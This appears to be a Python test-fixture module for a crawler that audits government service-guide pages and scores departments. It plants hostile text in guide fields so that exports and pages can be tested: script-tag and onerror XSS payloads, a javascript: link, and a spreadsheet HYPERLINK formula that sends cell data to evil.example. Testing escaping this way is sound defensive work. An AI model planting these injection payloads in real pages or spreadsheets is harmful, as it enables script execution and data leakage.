"""Domain objects for the tests of exports and pages: two nights over a few bodies, with hostile text in the crawl."""

from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

from domain.crawl import GuideOutcome, GuideVisit, ListedGuide, Listing
from domain.evidence import Evidence, EvidenceKind
from domain.failure import FailureReason
from domain.finding import Audit, Finding, RuleSet
from domain.guide import AttachmentLink, Field, Guide, Law, Material, Window
from domain.guide_fields import FieldName, FieldState
from domain.observation import Observation, Refusal, Step, StepStatus
from domain.outcome import Outcome
from domain.review import Review, ReviewVerdict
from domain.run import Run, RunKind, RunState
from domain.score import Score, ScoreState, UnitTotal
from readability.features import read_guide
from storage.store import Store

START = datetime(2026, 11, 22, 17, 30, 5, tzinfo=UTC)  # 2026-11-23 01:30:05 in Beijing
FIRST_NIGHT = "20261121T173005Z-aaaa"
SECOND_NIGHT = "20261122T173005Z-bbbb"
UNITS = ("dept-01", "dept-09", "dept-23", "county-1")
PORTALS = ("gdzwfw", "yss")
RULES = RuleSet(id="rs1", members=(("limit.promise-within-legal", 2), ("phone.dialable", 1), ("place.present", 1)))
RULE_TITLES = {
    "limit.promise-within-legal": "承诺时限不超过法定时限",
    "phone.dialable": "咨询电话可以拨打",
    "place.present": "写明办理地点",
}
SCRIPT = "<script>document.title='pwned'</script>"
BROKEN_OUT = '"><img src=x onerror="document.title=\'pwned\'">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FLOW = """1.到窗口交表，材料不全可以容缺受理。
2.领取受理通知书（窗口收下后给的凭据）。
3.使用海域的，另办用海手续。"""
REVIEWED_ITEM = "gdzwfw-dept-01-0"


def make_run(run: str = SECOND_NIGHT, *, days: int = 0, state: RunState = RunState.FINISHED, **changes: object) -> Run:
    """A night over the sandbox."""
    facts: dict[str, object] = {
        "id": run,
        "kind": RunKind.NIGHTLY,
        "period": "2026H2",
        "target": "sandbox",
        "state": state,
        "started_at": START + timedelta(days=days),
        "finished_at": START + timedelta(days=days, hours=2, minutes=3, seconds=4),
        "units": UNITS,
        "portals": PORTALS,
        "tool_version": "0.1.0",
        "tool_commit": "0123abc",
        "packages": {"scrapy": "2.19.0", "playwright": "1.65.2"},
        "browser": "chromium-headless-shell 156",
        "settings_hash": "5e771465",
        "settings": {"seed": 1},
        "vantage": "阳江",
        "counts": {"guides": 12},
    }
    return Run.model_validate({**facts, **changes})


def make_listed(unit: str, number: int, *, portal: str = "gdzwfw", title: str = "") -> ListedGuide:
    """The ``number``-th item of a body."""
    return ListedGuide(
        portal=portal,
        unit=unit,
        item_id=f"{portal}-{unit}-{number}",
        code=f"1144170000702{number:04}XK3440112001{number:03}",
        title=title or f"建筑工程施工许可证核发（第{number}项）",
        url=f"https://www.gdzwfw.gov.cn/portal/v2/guide/1144170000702{number:04}?a=1&b={number}#top",
    )


def make_visit(listed: ListedGuide, outcome: GuideOutcome = GuideOutcome.MEASURED, document: str = "") -> GuideVisit:
    """The visit to an item."""
    failed = outcome is GuideOutcome.NOT_MEASURED
    return GuideVisit(
        **listed.model_dump(),
        outcome=outcome,
        failure=FailureReason.CAPTCHA if failed else None,
        status=200,
        document=document or None,
        fetched_at=START,
    )


def read(text: str, raw: str | None = None) -> Field:
    """A field with a text, or a blank one."""
    return Field(raw=text if raw is None else raw, value=text, state=FieldState.OK if text else FieldState.BLANK)


def make_guide(listed: ListedGuide, document: str) -> Guide:
    """A guide with good, blank and hostile fields."""
    fields = {
        FieldName.NAME: read(listed.title),
        FieldName.ITEM_TYPE: read("行政许可"),
        FieldName.ITEM_TYPE_CODE: read("01"),
        FieldName.DEPARTMENT: read("阳江市住房和城乡建设局"),
        FieldName.LEGAL_LIMIT: read("15(工作日)", raw="15&nbsp;(工作日)"),
        FieldName.PROMISE_LIMIT: read("7个自然日"),
        FieldName.VISITS: read("1"),
        FieldName.HANDLING_FORM: read("窗口办理、网上办理"),
        FieldName.ONLINE: read("是"),
        FieldName.ONLINE_DEPTH: read("四级"),
        FieldName.BOOKABLE: read("否"),
        FieldName.PLACE: read(f"阳江市江城区东风三路{SCRIPT}"),
        FieldName.HOURS: read("周一至周五\r\n08:30-12:00\r\n14:30-17:30"),
        FieldName.ENQUIRY_PHONE: read("-3366001"),
        FieldName.COMPLAINT_PHONE: read(""),
        FieldName.WINDOW_FLOW: read(FLOW),
        FieldName.CONDITION: Field(raw=None, value="", state=FieldState.NOT_MEASURED),
    }
    return Guide(
        **listed.model_dump(exclude={"version"}),
        document=document,
        captured_at=START,
        parser="gdzwfw-item/1",
        fields=fields,
        materials=(
            Material(
                name="施工许可证申请表",
                necessity="必要",
                medium="纸质/电子化",
                originals="1",
                copies="0",
                source="申请人自备",
                forms=(AttachmentLink(name="空白表格.doc", url="https://static.gdzwfw.gov.cn/guide/files/c1a7"),),
                samples=(AttachmentLink(name=BROKEN_OUT, url="javascript:alert(1)"),),
            ),
            Material(name=SCRIPT),
        ),
        laws=(Law(name="中华人民共和国建筑法", number="主席令第91号", clause="第七条"),),
        windows=(Window(name="综合窗口", address="市民服务中心二楼", phone="0662-3366001", hours="工作日"),),
    )


def make_finding(listed: ListedGuide, rule: int = 0, *, run: str = SECOND_NIGHT, **changes: object) -> Finding:
    """A fault of an item."""
    rule_id, version = RULES.members[rule]
    facts: dict[str, object] = {
        "run": run,
        "portal": listed.portal,
        "unit": listed.unit,
        "subject": listed.code,
        "item_id": listed.item_id,
        "rule_id": rule_id,
        "rule_version": version,
        "field": (FieldName.PROMISE_LIMIT, FieldName.ENQUIRY_PHONE, FieldName.PLACE)[rule],
        "outcome": Outcome.FAIL,
        "state": (FieldState.INCONSISTENT, FieldState.MALFORMED, FieldState.PLACEHOLDER)[rule],
        "reason": ("承诺办结时限长于法定办结时限", "咨询电话不是可以拨打的号码", "办理地点是占位语")[rule],
        "excerpt": FORMULA,
        "checked": 3,
        "failed": 1,
        "document": "d" * 64,
        "url": listed.url,
    }
    return Finding.model_validate({**facts, **changes})


def make_observation(
    listed: ListedGuide,
    outcome: Outcome,
    *,
    probe: str = "online-application",
    run: str = SECOND_NIGHT,
    **changes: object,
) -> Observation:
    """A probe of an item."""
    facts: dict[str, object] = {
        "run": run,
        "portal": listed.portal,
        "unit": listed.unit,
        "subject": listed.code,
        "item_id": listed.item_id,
        "probe_id": probe,
        "probe_version": 1,
        "outcome": outcome,
        "failure": {Outcome.FAIL: FailureReason.DEAD_END, Outcome.BLOCKED: FailureReason.CAPTCHA}.get(outcome),
        "reason": {Outcome.FAIL: "点击“在线办理”后页面没有任何反应", Outcome.BLOCKED: "出现滑动验证，未继续"}.get(
            outcome, ""
        ),
        "value": 12.5,
        "unit_of_value": "秒",
        "measures": {"clicks": 4, "found": True, "rank": None, "first_paint_ms": 812.25, "keyword": FORMULA},
        "started_at": START,
        "finished_at": START + timedelta(seconds=12, milliseconds=345),
        "browser": "chromium-headless-shell 156",
    }
    return Observation.model_validate({**facts, **changes})


def make_step(index: int, title: str, status: StepStatus = StepStatus.DONE, **changes: object) -> Step:
    """One step of a journey."""
    facts: dict[str, object] = {
        "index": index,
        "title": title,
        "status": status,
        "url": f"https://www.gdzwfw.gov.cn/portal/v2/step/{index}" if status is not StepStatus.SKIPPED else "",
        "started_at": START + timedelta(seconds=3 * index),
        "duration_ms": 0 if status is StepStatus.SKIPPED else 400 * index,
    }
    return Step.model_validate({**facts, **changes})


def make_refusal() -> Refusal:
    """A request that the guard kept in."""
    return Refusal(
        at=START,
        method="POST",
        url=f"https://www.gdzwfw.gov.cn/portal/api/v2/submit?x={BROKEN_OUT}",
        resource="fetch",
        rule="method-not-read-only",
        body_bytes=321,
    )


def make_score(unit: str, row: int, state: ScoreState = ScoreState.SCORED, *, run: str = SECOND_NIGHT) -> Score:
    """One indicator's score."""
    scored = state is ScoreState.SCORED
    return Score(
        run=run,
        period="2026H2",
        unit=unit,
        table="D" if unit.startswith("dept") else "C",
        row=row,
        indicator=f"indicator-{row}",
        version=1,
        title=f"办事指南准确性（第{row}行）",
        weight=2.0,
        state=state,
        value=0.85 if scored else None,
        points=1.7 if scored else None,
        numerator=17.0 if scored else None,
        denominator=20.0 if scored else None,
        coverage=0.5 if state is ScoreState.INSUFFICIENT else 0.98,
        minimum_coverage=0.9,
        measured_share=0.6 if row == 2 else 1.0,
        interval=(0.8, 0.9) if scored else None,
        parts={"accurate": 17.0, "judged": 20.0},
        note="=1+1 按办事指南逐字段核对" if row == 1 else "",
        inputs=("a", "b", "c"),
        excluded=("d",),
    )


def keep(store: Store, data: bytes, kind: EvidenceKind, media_type: str, run: str = SECOND_NIGHT) -> str:
    """Keep bytes as evidence on file and on record; return their hash."""
    evidence: Evidence = store.evidence.put(
        data, kind=kind, media_type=media_type, url="https://www.gdzwfw.gov.cn/", run=run, captured_at=START
    )
    store.artefacts.save([evidence])
    return evidence.sha256


def fill_night(
    store: Store,
    run: Run,
    *,
    units: Iterable[str] = UNITS,
    items: int = 4,
    unseen: int = 0,
    observations: int = 2,
) -> None:
    """Crawl, audit, probe and score a night: ``items`` guides per body of which ``unseen`` were not measured."""
    store.runs.add(run)
    store.audits.save_rule_set(RULES)
    for unit in units:
        listed = [make_listed(unit, number) for number in range(items)]
        store.crawls.save_listing(run.id, Listing(portal="gdzwfw", unit=unit, total=items, rows=items, guides=items))
        store.crawls.save_listed(run.id, listed)
        fill_guides(store, run, listed, unseen)
        for number, guide in enumerate(listed[:observations]):
            outcome = tuple(Outcome)[number % len(Outcome)]
            store.observations.save(make_observation(guide, outcome, run=run.id))
    store.scores.save(
        run.id,
        [make_score(unit, row, state, run=run.id) for unit in UNITS for row, state in enumerate(ScoreState, start=1)],
        [make_total(run.id, unit, rank) for rank, unit in enumerate(UNITS, start=1)],
    )


def make_total(run: str, unit: str, rank: int) -> UnitTotal:
    """A body's partial score."""
    return UnitTotal(
        run=run,
        period="2026H2",
        unit=unit,
        table="D" if unit.startswith("dept") else "C",
        value=90.0 - rank * 3.25,
        weight_scored=30.5,
        weight_applicable=38.0,
        rank=rank if unit.startswith("dept") else 1,
    )


def fill_guides(store: Store, run: Run, listed: list[ListedGuide], unseen: int) -> None:
    """Visit, parse and judge a body's guides."""
    measured = listed[: len(listed) - unseen]
    documents = {
        guide.item_id: keep(
            store,
            f'{{"item": "{guide.item_id}", "x": "{SCRIPT}"}}'.encode(),
            EvidenceKind.DOCUMENT,
            "application/json",
            run.id,
        )
        for guide in measured
    }
    guides = [make_guide(guide, documents[guide.item_id]) for guide in measured]
    store.guides.save(guides)
    store.readability.save(run.id, map(read_guide, guides))
    missed = [make_visit(guide, GuideOutcome.NOT_MEASURED) for guide in listed[len(measured) :]]
    store.crawls.save_visits(
        run.id, [make_visit(guide, document=documents[guide.item_id]) for guide in measured] + missed
    )
    audits = [
        Audit(
            run=run.id,
            portal=guide.portal,
            unit=guide.unit,
            item_id=guide.item_id,
            subject=guide.code,
            document=documents[guide.item_id],
            rule_set=RULES.id,
            outcomes="ffp",
            shares={},
        )
        for guide in measured
    ]
    findings = [
        make_finding(guide, rule, run=run.id, document=documents[guide.item_id])
        for guide in measured
        for rule in (0, 1)
    ]
    store.audits.save(audits, findings)


def make_review(about: str) -> Review:
    """An evaluator's remark."""
    return Review(
        about=about, reviewer="张评估", verdict=ReviewVerdict.DISPUTE, note=f"复核时按钮可用{SCRIPT}", at=START
    )
